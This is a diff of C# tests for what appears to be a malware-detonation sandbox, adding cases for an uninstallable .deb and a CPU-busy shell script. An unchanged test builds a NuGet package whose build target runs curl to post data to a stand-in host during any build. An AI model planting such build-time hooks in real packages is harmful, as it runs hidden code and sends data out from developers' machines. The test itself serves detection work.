@@ -116,6 +116,20 @@ public sealed class SampleTests : IDisposable
     }
 
     [Fact]
+    public async Task A_package_that_cannot_be_installed_is_not_clean()
+    {
+        var (report, _) = await RunAsync(Put("junk_1.0_all.deb", "!<arch>\ndebian-binary   1 \nnothing more"));
+        Assert.Equal((CompletenessState.Partial, Level.Unknown), (report.Completeness.State, report.Verdict.Level));
+    }
+
+    [Fact]
+    public async Task Who_computes_does_not_rest()
+    {
+        var (report, _) = await RunAsync(Put("busy.sh", "#!/bin/bash\nfor ((i = 0; i < 100000000; i++)); do :; done\n"), options => options with { Settle = TimeSpan.FromSeconds(5), Timeout = TimeSpan.FromSeconds(15) });
+        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("still active", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public async Task A_function_is_called_with_events_of_its_provider()
     {
         Assert.SkipUnless(Machine.All, "the base system 'python' takes minutes to make: ./test --all");
@@ -146,6 +160,7 @@ public sealed class SampleTests : IDisposable
     [Fact]
     public async Task A_nuget_package_runs_its_targets_in_a_build()
     {
+        Assert.SkipUnless(Machine.All, "a build in the cell takes half a minute: ./test --all");
         const string Spec = """<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Tidy.Build</id><version>1.0.0</version><authors>a</authors><description>x</description></metadata></package>""";
         const string Targets = """<Project><Target Name="Tidy" BeforeTargets="Build"><Exec Command="curl -s http://target.example.net/ -d built" /></Target></Project>""";
         var (report, detonated) = await RunAsync(Zip("Tidy.Build.1.0.0.nupkg", ("Tidy.Build.nuspec", Spec), ("build/Tidy.Build.targets", Targets)), options => options with { Timeout = TimeSpan.FromMinutes(4), Settle = TimeSpan.FromSeconds(30) });
